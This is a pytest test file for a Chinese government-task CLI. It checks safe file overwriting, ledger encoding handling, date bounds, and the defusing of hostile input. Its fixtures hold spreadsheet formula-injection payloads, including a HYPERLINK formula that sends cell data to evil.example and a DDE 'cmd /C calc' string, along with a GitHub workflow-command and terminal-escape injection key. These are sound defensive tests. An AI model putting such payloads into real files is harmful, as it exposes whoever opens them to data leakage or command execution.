"""Issue 14: nothing overwritten that the user did not name, nothing executable in what we
write, answers that stay right on hostile input. Hostile files are generated here.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import shutil
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import Result
from typer.testing import CliRunner

from govopen_cli.cli.app import app, undecodable_argument
from govopen_cli.files.atomic import remove_stale_temps
from govopen_cli.files.encoding import wide_encoding
from govopen_cli.render.tables import csv_cell

ROOT = Path(__file__).resolve().parents[1]
DATA = ROOT / "data" / "tasks.yaml"
AS_ROOT = hasattr(os, "geteuid") and os.geteuid() == 0


def cli(*args: str) -> Result:
    """Run the CLI in-process; a traceback would raise here (catch_exceptions=False)."""
    return CliRunner().invoke(app, list(args), catch_exceptions=False)


@pytest.fixture()
def office(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder with a copy of the task file (also $GOVOPEN_DATA); no ledger, cache or as-of."""
    shutil.copy(DATA, tmp_path / "tasks.yaml")
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("GOVOPEN_DATA", str(tmp_path / "tasks.yaml"))
    monkeypatch.delenv("GOVOPEN_AS_OF", raising=False)
    monkeypatch.setenv("GOVOPEN_NO_CACHE", "1")
    monkeypatch.setenv("COLUMNS", "200")
    return tmp_path


def table_data() -> dict[str, Any]:
    return yaml.safe_load(DATA.read_text(encoding="utf-8"))  # type: ignore[no-any-return]


def write_table(path: Path, data: dict[str, Any]) -> Path:
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return path


def add_task(data: dict[str, Any], text: str, units: str, schedule: str = "2022年底前") -> None:
    data["tasks"].append(
        {
            "id": max(t["id"] for t in data["tasks"]) + 1,
            "section": "五",
            "text": text,
            "schedule": schedule,
            "units": units,
        }
    )


def one_message(result: Result) -> str:
    """The command failed with one `govopen:` line (no traceback, no usage box)."""
    lines = [line for line in result.stderr.splitlines() if line.strip()]
    assert "Traceback" not in result.stderr
    assert len(lines) == 1, result.stderr
    return lines[0]


# --- nothing overwritten that the user did not name --------------------------------------


@pytest.mark.parametrize("force", [[], ["--force"]])
def test_export_never_replaces_the_task_file_it_reads(office: Path, force: list[str]) -> None:
    before = (office / "tasks.yaml").read_bytes()
    result = cli("export", "-f", "json", "--out", "tasks.yaml", "--data", "tasks.yaml", *force)
    assert result.exit_code == 1
    assert "任务文件" in one_message(result)
    assert (office / "tasks.yaml").read_bytes() == before


def test_export_never_replaces_the_ledger_even_through_a_link(office: Path) -> None:
    ledger = office / "progress.yaml"
    ledger.write_text("reports: []\n", encoding="utf-8")
    (office / "alias.yaml").symlink_to(ledger)
    os.link(office / "tasks.yaml", office / "hard.yaml")
    for out in ("progress.yaml", "alias.yaml", "hard.yaml"):
        result = cli("export", "-f", "csv", "--out", out, "--data", "tasks.yaml", "--force")
        assert result.exit_code == 1, out
        assert "正在读取" in one_message(result)
    assert ledger.read_text(encoding="utf-8") == "reports: []\n"
    assert (office / "hard.yaml").read_bytes() == DATA.read_bytes()


def test_export_needs_force_to_replace_a_file(office: Path) -> None:
    out = office / "分工表.csv"
    out.write_text("old", encoding="utf-8")
    result = cli("export", "-f", "csv", "--out", str(out), "--data", "tasks.yaml")
    assert result.exit_code == 1
    assert "--force" in one_message(result)
    assert out.read_text(encoding="utf-8") == "old"
    result = cli("export", "-f", "csv", "--out", str(out), "--data", "tasks.yaml", "--force")
    assert result.exit_code == 0
    assert out.read_text(encoding="utf-8-sig").startswith("序号,重点任务")


def test_publish_needs_force_to_replace_the_page(office: Path) -> None:
    assert cli("publish", "--out", "site", "--data", "tasks.yaml").exit_code == 0
    page = office / "site" / "index.html"
    page.write_text("edited by hand", encoding="utf-8")
    result = cli("publish", "--out", "site", "--data", "tasks.yaml")
    assert result.exit_code == 1
    assert "--force" in one_message(result)
    assert page.read_text(encoding="utf-8") == "edited by hand"
    assert cli("publish", "--out", "site", "--data", "tasks.yaml", "--force").exit_code == 0
    assert page.read_text(encoding="utf-8").startswith("<!")


def test_import_never_replaces_its_source(office: Path) -> None:
    source = office / "分工表.txt"
    source.write_text("一、测试\n1 任务 2022年底前 市政府\n", encoding="utf-8")
    before = source.read_bytes()
    result = cli("import", str(source), "-o", str(source), "--force")
    assert result.exit_code == 1
    assert "来源文件" in one_message(result)
    os.link(source, office / "同一个文件.yaml")  # another name for the same file
    result = cli("import", str(source), "-o", str(office / "同一个文件.yaml"), "--force")
    assert result.exit_code == 1
    assert "来源文件" in one_message(result)
    assert source.read_bytes() == before


def test_a_failed_write_says_write_not_read(office: Path) -> None:
    (office / "plain").write_text("x", encoding="utf-8")
    result = cli("export", "-f", "csv", "--out", "plain/out.csv", "--data", "tasks.yaml")
    assert result.exit_code == 1
    message = one_message(result)
    assert message.startswith("govopen: 无法写入 plain/out.csv：")
    result = cli(
        "progress",
        "add",
        "6",
        "--unit",
        "东坡区",
        "--status",
        "done",
        "--date",
        "2021-09-28",
        "--data",
        "tasks.yaml",
        "--progress",
        "plain/progress.yaml",
    )
    assert result.exit_code == 1
    assert one_message(result).startswith("govopen: 无法写入 plain/progress.yaml：")


# --- the ledger: the real today, links, line ends, leftovers ------------------------------


def test_a_report_is_never_dated_after_the_real_today(
    office: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    today = dt.date.today()
    monkeypatch.setenv("GOVOPEN_AS_OF", (today + dt.timedelta(days=60)).isoformat())
    result = cli("progress", "add", "6", "--unit", "东坡区", "--status", "done")
    assert result.exit_code == 1
    assert f"（{today.isoformat()}）" in one_message(result)
    assert not (office / "progress.yaml").exists()
    # dated today it is fine, whatever as-of says
    ok = cli("progress", "add", "6", "--unit", "东坡区", "--status", "done", "--date", str(today))
    assert ok.exit_code == 0, ok.output
    assert f"date: {today.isoformat()}" in (office / "progress.yaml").read_text(encoding="utf-8")


def test_validate_checks_ledger_dates_against_the_real_today(
    office: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    later = dt.date.today() + dt.timedelta(days=5)
    (office / "progress.yaml").write_text(
        f"reports:\n  - {{task: 6, unit: 东坡区人民政府, status: done, date: {later}}}\n",
        encoding="utf-8",
    )
    monkeypatch.setenv("GOVOPEN_AS_OF", "2999-01-01")
    result = cli("validate", "tasks.yaml")
    assert result.exit_code == 1
    assert "[ledger-entry]" in result.stdout


def add_done(*extra: str) -> Result:
    return cli(
        "progress",
        "add",
        "6",
        "--unit",
        "东坡区",
        "--status",
        "done",
        "--date",
        "2021-09-28",
        "--data",
        "tasks.yaml",
        *extra,
    )


def test_a_symlinked_ledger_stays_a_link_and_its_target_is_written(office: Path) -> None:
    shared = office / "shared"
    shared.mkdir()
    target = shared / "progress.yaml"
    target.write_text("# 共享台账\n", encoding="utf-8")
    (office / "progress.yaml").symlink_to(Path("shared") / "progress.yaml")
    result = add_done()
    assert result.exit_code == 0, result.output
    assert (office / "progress.yaml").is_symlink()
    assert "unit: 东坡区人民政府" in target.read_text(encoding="utf-8")
    assert sorted(p.name for p in office.iterdir()) == ["progress.yaml", "shared", "tasks.yaml"]


def test_a_symlink_loop_as_ledger_is_one_message(office: Path) -> None:
    (office / "progress.yaml").symlink_to("loop")
    (office / "loop").symlink_to("progress.yaml")
    result = add_done()
    assert result.exit_code == 1
    assert one_message(result).startswith("govopen: 无法写入 progress.yaml：")


@pytest.mark.parametrize(
    ("bom", "newline"), [(b"", b"\r\n"), (b"\xef\xbb\xbf", b"\n"), (b"\xef\xbb\xbf", b"\r\n")]
)
def test_bom_and_crlf_are_kept_and_earlier_bytes_stay(
    office: Path, bom: bytes, newline: bytes
) -> None:
    lines = [
        "# 台账",
        "reports:",
        "  - {task: 6, unit: 天府新区眉山管委会, status: done, date: 2021-09-20}",
    ]
    before = bom + newline.join(line.encode() for line in lines) + newline
    ledger = office / "progress.yaml"
    ledger.write_bytes(before)
    assert add_done().exit_code == 0
    after = ledger.read_bytes()
    assert after.startswith(before)
    added = after[len(before) :]
    assert added.count(newline) == 4  # task, unit, status, date: every line ends as the others
    if newline == b"\r\n":
        assert added.count(b"\n") == 4
    assert not after[len(bom) :].startswith(b"\xef\xbb\xbf")
    shown = cli("progress", "list", "--data", "tasks.yaml", "--format", "json")
    assert [r["unit"] for r in json.loads(shown.stdout)] == ["天府新区眉山管委会", "东坡区人民政府"]


def test_stale_temporary_files_of_killed_appends_are_removed(office: Path) -> None:
    (office / "progress.yaml").write_text("# 台账\n", encoding="utf-8")
    stale = office / ".progress.yaml.k2x_9abc.tmp"
    fresh = office / ".progress.yaml.q7wz0def.tmp"
    unrelated = office / ".progress.yaml.backup.tmp"
    for path in (stale, fresh, unrelated):
        path.write_text("half a ledger", encoding="utf-8")
    hour_ago = time.time() - 3600
    for path in (stale, unrelated):
        os.utime(path, (hour_ago, hour_ago))
    assert add_done().exit_code == 0
    assert not stale.exists()
    assert fresh.exists()  # may be a write in progress elsewhere (minutes, not seconds, old)
    assert unrelated.exists()  # not a name write_atomic makes


def test_remove_stale_temps_leaves_links_and_folders(tmp_path: Path) -> None:
    target = tmp_path / "progress.yaml"
    link = tmp_path / ".progress.yaml.abcdefgh.tmp"
    link.symlink_to(tmp_path)
    folder = tmp_path / ".progress.yaml.zzzzzzzz.tmp"
    folder.mkdir()
    assert remove_stale_temps(target, older_than=0) == []
    assert link.is_symlink()
    assert folder.is_dir()


# --- nothing executable in what we write ------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "第一行\r第二行",
]


@pytest.fixture()
def hostile(office: Path) -> Path:
    """A valid table whose task text, a unit's name, a note and evidence begin with formulas."""
    data = table_data()
    data["units"].append({"name": "=1+2局", "kind": "department"})
    for text in HOSTILE:
        add_task(data, text, "=1+2局")
    path = write_table(office / "tasks.yaml", data)
    (office / "progress.yaml").write_text(
        "reports:\n"
        "  - task: 25\n    unit: =1+2局\n    status: blocked\n    date: 2022-01-05\n"
        '    note: "=HYPERLINK(\\"http://evil.example\\")"\n    evidence: "=1+1"\n',
        encoding="utf-8",
    )
    result = cli("validate", "tasks.yaml")
    assert result.exit_code == 0, result.stdout
    return path


def test_xlsx_writes_formula_like_text_as_text(hostile: Path) -> None:
    from openpyxl import load_workbook

    out = hostile.parent / "分工表.xlsx"
    result = cli("export", "-f", "xlsx", "--out", str(out), "--data", "tasks.yaml")
    assert result.exit_code == 0, result.output
    book = load_workbook(out)
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    assert HOSTILE[0] in texts  # task text
    assert "=1+2局" in texts  # a unit's name as a column header of the board
    assert '=HYPERLINK("http://evil.example")' in texts  # a note in the ledger sheet
    assert "=1+1" in texts  # evidence


def test_xlsx_shows_control_characters_it_cannot_hold(office: Path) -> None:
    data = table_data()
    add_task(data, "清屏\x1b[2J标题\x07", "天府新区眉山管委会")
    write_table(office / "tasks.yaml", data)
    out = office / "t.xlsx"
    assert cli("export", "-f", "xlsx", "--out", str(out), "--data", "tasks.yaml").exit_code == 0
    from openpyxl import load_workbook

    cells = [c.value for row in load_workbook(out).worksheets[0].iter_rows() for c in row]
    assert "清屏\\x1b[2J标题\\x07" in cells


def csv_rows(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


@pytest.mark.parametrize(
    "args",
    [
        ["list", "-f", "csv"],
        ["export", "-f", "csv"],
        ["export", "-f", "csv", "--rows", "milestones"],
        ["board", "-f", "csv", "--as-of", "2022-01-05"],
    ],
)
def test_every_csv_has_a_bom_and_formula_cells_defused(hostile: Path, args: list[str]) -> None:
    result = cli(*args, "--data", "tasks.yaml")
    assert result.exit_code == 0, result.output
    rows = csv_rows(result.stdout)
    assert len({len(r) for r in rows}) == 1  # a bare CR split no row
    cells = [cell for row in rows for cell in row]
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    if args[0] == "board":
        assert "'=1+2局" in rows[0]  # the unit's column header
    else:
        assert "'" + HOSTILE[0] in cells
        assert "第一行\r第二行" in cells  # quoted, so it stays one cell
        assert "'\r=1+1" in cells


def test_csv_rows_end_in_crlf() -> None:
    from govopen_cli.render.tables import Column, Table, to_csv

    text = to_csv(Table("", [Column("a", "甲"), Column("b", "乙")], [{"a": "1", "b": "x\ry"}]))
    assert text == '\ufeff甲,乙\r\n1,"x\ry"\r\n'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+86 28 1234", "'+86 28 1234"),
        ("-A1", "'-A1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-3", "-3"),  # a plain number cannot be a formula
        ("+1.5", "+1.5"),
        ("逾期 3 天", "逾期 3 天"),
        ("", ""),
    ],
)
def test_csv_cell_rule(cell: str, written: str) -> None:
    assert csv_cell(cell) == written


# --- answers that stay right ----------------------------------------------------------------


@pytest.mark.parametrize("units", ["配合单位：市财政局", "市政务服务管理局加强指导"])
def test_a_task_without_a_lead_unit_is_an_error(office: Path, units: str) -> None:
    data = table_data()
    data["units"].append({"name": "市财政局", "kind": "department"})
    add_task(data, "没有牵头单位的任务", units)
    write_table(office / "tasks.yaml", data)
    result = cli("validate", "tasks.yaml")
    assert result.exit_code == 1
    assert "[no-lead-unit]" in result.stdout
    assert cli("due", "--data", "tasks.yaml").exit_code == 1


@pytest.mark.parametrize("kind", ["missing", "folder", "loop", "dangling"])
def test_validate_a_ledger_that_cannot_be_read_fails_as_due_does(office: Path, kind: str) -> None:
    ledger = office / "progress.yaml"
    if kind == "folder":
        ledger.mkdir()
    elif kind == "loop":
        ledger.symlink_to("other.yaml")
        (office / "other.yaml").symlink_to("progress.yaml")
    elif kind == "dangling":
        ledger.symlink_to("nowhere.yaml")
    result = cli("validate", "progress.yaml")
    assert result.exit_code == 1
    assert "progress.yaml: 错误:" in result.stdout
    due = cli("due", "--data", "tasks.yaml", "--progress", "progress.yaml")
    assert due.exit_code == 1
    one_message(due)
    if kind != "missing":  # beside the task file, found without being named
        assert cli("validate", "tasks.yaml").exit_code == 1
        assert cli("due", "--data", "tasks.yaml").exit_code == 1
    else:
        assert cli("validate", "tasks.yaml").exit_code == 0


@pytest.mark.parametrize(
    "args",
    [
        ["due", "--within", "9999999"],
        ["due", "--as-of", "9999-12-31", "--within", "5"],
        ["overdue", "--as-of", "0001-01-01"],
        ["export", "-f", "ics", "--remind-days", "10000000000"],
        ["board", "--warn-days", "100000000000000000000"],
        ["due", "--before", "10000-01-01"],
        ["due", "--within", "-1"],
    ],
)
def test_date_and_day_options_are_bounded(office: Path, args: list[str]) -> None:
    result = cli(*args, "--data", "tasks.yaml")
    assert result.exit_code == 2
    assert "Traceback" not in result.output
    assert any(w in result.output for w in ("范围", "0 到 36500", "无法识别日期"))


def test_the_widest_dates_allowed_still_answer(office: Path) -> None:
    assert (
        cli("due", "--as-of", "2999-12-31", "--within", "36500", "--data", "tasks.yaml").exit_code
        == 0
    )
    assert cli("overdue", "--as-of", "1900-01-01", "--data", "tasks.yaml").exit_code == 0
    result = cli("export", "-f", "ics", "--remind-days", "36500", "--data", "tasks.yaml")
    assert result.exit_code == 0


def test_as_of_from_the_environment_is_bounded(
    office: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("GOVOPEN_AS_OF", "9999-12-31")
    result = cli("due", "--within", "5", "--data", "tasks.yaml")
    assert result.exit_code == 2
    assert "GOVOPEN_AS_OF" in one_message(result)


def test_a_deadline_in_year_9999_is_an_error_not_a_crash(office: Path) -> None:
    data = table_data()
    add_task(data, "远期任务", "天府新区眉山管委会", schedule="9999年12月31日前")
    add_task(data, "手工节点", "天府新区眉山管委会", schedule="见备注")
    data["tasks"][-1]["milestones"] = [{"due": dt.date(9999, 12, 31), "deliverable": "完成"}]
    write_table(office / "tasks.yaml", data)
    result = cli("validate", "tasks.yaml")
    assert result.exit_code == 1
    assert result.stdout.count("[schedule-invalid]") == 2
    assert "9999" in result.stdout
    ics = cli("export", "-f", "ics", "--data", "tasks.yaml")
    assert ics.exit_code == 1
    assert "Traceback" not in ics.output


def test_undecodable_arguments_are_found() -> None:
    gbk = "测试".encode("gbk").decode("utf-8", "surrogateescape")
    assert undecodable_argument(["list", "--note", gbk]) == gbk
    assert undecodable_argument(["list", "--search", "测试"]) is None


def test_a_gbk_note_on_the_command_line_is_refused(office: Path) -> None:
    note = "测试".encode("gbk")
    args = [sys.executable, "-m", "govopen_cli", "progress", "add", "6", "--unit", "东坡区"]
    args += ["--status", "done", "--date", "2021-09-28", "--data", "tasks.yaml"]
    result = subprocess.run([*(a.encode() for a in args), b"--note", note], capture_output=True)
    assert result.returncode == 2
    stderr = result.stderr.decode("utf-8")
    assert "Traceback" not in stderr
    assert "不是有效的文字" in stderr
    assert "\\xb2\\xe2\\xca\\xd4" in stderr  # the bytes as typed
    assert not (office / "progress.yaml").exists()


def test_no_path_option_lets_click_refuse_an_unreadable_file() -> None:
    """Click's own readable check prints an English usage box (exit 2): ours says it in Chinese."""
    import typing

    from typer.models import ParameterInfo

    from govopen_cli.cli.ledger import progress_app

    checked = 0
    for info in [*app.registered_commands, *progress_app.registered_commands]:
        assert info.callback is not None
        hints = typing.get_type_hints(info.callback, include_extras=True)
        for name, hint in hints.items():
            if typing.get_origin(hint) is not typing.Annotated:
                continue
            base, *extras = typing.get_args(hint)
            if Path not in (base, *typing.get_args(base)):
                continue
            for extra in extras:
                if isinstance(extra, ParameterInfo):
                    assert extra.readable is False, (info.name, name)
                    checked += 1
    assert checked >= 20


@pytest.mark.skipif(AS_ROOT, reason="root reads files whatever their permissions")
def test_an_unreadable_file_is_one_chinese_message(office: Path) -> None:
    (office / "tasks.yaml").chmod(0)
    for args in (["list", "--data", "tasks.yaml"], ["validate", "tasks.yaml"]):
        result = cli(*args)
        assert result.exit_code == 1
        assert "没有读取该文件的权限" in result.output


@pytest.mark.skipif(AS_ROOT, reason="root enters folders whatever their permissions")
def test_a_folder_that_cannot_be_entered_is_one_message(office: Path) -> None:
    locked = office / "locked"
    locked.mkdir()
    shutil.copy(DATA, locked / "tasks.yaml")
    locked.chmod(0)
    try:
        result = cli("validate", "locked/tasks.yaml")
        ledger = cli("validate", "locked/progress.yaml")
        folder = cli("validate", "locked")
        listed = cli("list", "--data", "locked/tasks.yaml")
    finally:
        locked.chmod(0o755)
    assert result.exit_code == 1
    assert "locked/tasks.yaml: 错误:" in result.stdout
    assert ledger.exit_code == 1
    assert "locked/progress.yaml: 错误:" in ledger.stdout
    assert folder.exit_code == 1
    assert listed.exit_code == 1
    assert "没有读取该文件的权限" in one_message(listed)


def test_a_path_under_a_file_is_one_message(office: Path) -> None:
    result = cli("validate", "tasks.yaml/tasks.yaml")
    assert result.exit_code == 1
    assert "tasks.yaml/tasks.yaml: 错误:" in result.stdout


@pytest.mark.parametrize(
    ("codec", "name"),
    [
        ("utf-16", "UTF-16"),
        ("utf-16-le", "UTF-16LE"),
        ("utf-16-be", "UTF-16BE"),
        ("utf-32", "UTF-32"),
        ("utf-32-le", "UTF-32LE"),
        ("utf-32-be", "UTF-32BE"),
    ],
)
def test_utf16_and_utf32_files_are_named_with_how_to_convert(
    office: Path, codec: str, name: str
) -> None:
    text = DATA.read_text(encoding="utf-8")
    (office / "tasks.yaml").write_bytes(text.encode(codec))
    result = cli("validate", "tasks.yaml")
    assert result.exit_code == 1
    assert f"文件是 {name} 编码" in result.stdout
    assert f"iconv -f {name} -t UTF-8 tasks.yaml" in result.stdout
    assert "二进制" not in result.stdout
    listed = cli("list", "--data", "tasks.yaml")
    assert listed.exit_code == 1
    assert name in one_message(listed)


def test_binary_and_gbk_are_not_called_utf16() -> None:
    assert wide_encoding(bytes(range(256)) * 8) is None
    assert wide_encoding("任务：公开".encode("gb18030") * 100) is None
    assert wide_encoding(b"\x00" * 64) is None


# --- validate's text and github output on hostile keys ----------------------------------------


def test_a_key_cannot_start_a_workflow_command_or_drive_the_terminal(office: Path) -> None:
    data = table_data()
    data["a\n::warning file=evil.yaml::boom\x1b]0;title\x07\x1b[2J"] = 1
    write_table(office / "tasks.yaml", data)
    text = cli("validate", "tasks.yaml")
    assert text.exit_code == 1
    assert not any(line.startswith("::") for line in text.stdout.splitlines())
    assert "\x1b" not in text.stdout and "\x07" not in text.stdout
    assert "a\\n::warning file=evil.yaml::boom\\x1b]0;title\\x07\\x1b[2J" in text.stdout
    github = cli("validate", "--format", "github", "tasks.yaml")
    commands = [line for line in github.stdout.splitlines() if line.startswith("::")]
    assert len(commands) == 1
    assert commands[0].startswith("::error file=tasks.yaml,")
    assert "\x1b" not in github.stdout


# --- the one output rule, as a library --------------------------------------------------------


def test_check_output_compares_files_not_spellings(tmp_path: Path) -> None:
    from govopen_cli.files.atomic import OutputRefused, check_output

    data = tmp_path / "tasks.yaml"
    data.write_text("x", encoding="utf-8")
    (tmp_path / "sub").mkdir()
    inputs = [(data, "任务文件")]
    for spelling in (tmp_path / "sub" / ".." / "tasks.yaml", tmp_path / "./tasks.yaml"):
        with pytest.raises(OutputRefused, match="任务文件"):
            check_output(spelling, inputs, force=True)
    not_yet = tmp_path / "progress.yaml"  # a ledger not written yet is still protected
    with pytest.raises(OutputRefused, match="进展台账"):
        check_output(tmp_path / "sub" / ".." / "progress.yaml", [(not_yet, "进展台账")], force=True)
    check_output(tmp_path / "out.csv", inputs, force=False)  # new and not an input: fine
    dangling = tmp_path / "link.csv"
    dangling.symlink_to("nowhere.csv")
    with pytest.raises(OutputRefused, match="--force"):  # a link counts as an existing file
        check_output(dangling, inputs, force=False)


@pytest.mark.parametrize(
    ("text", "newline"),
    [("", "\n"), ("a\nb\r\n", "\n"), ("a\r\nb\n", "\r\n"), ("a\rb", "\r"), ("one line", "\n")],
)
def test_a_ledger_keeps_the_line_end_it_starts_with(text: str, newline: str) -> None:
    from govopen_cli.files.ledger import _newline_of

    assert _newline_of(text) == newline
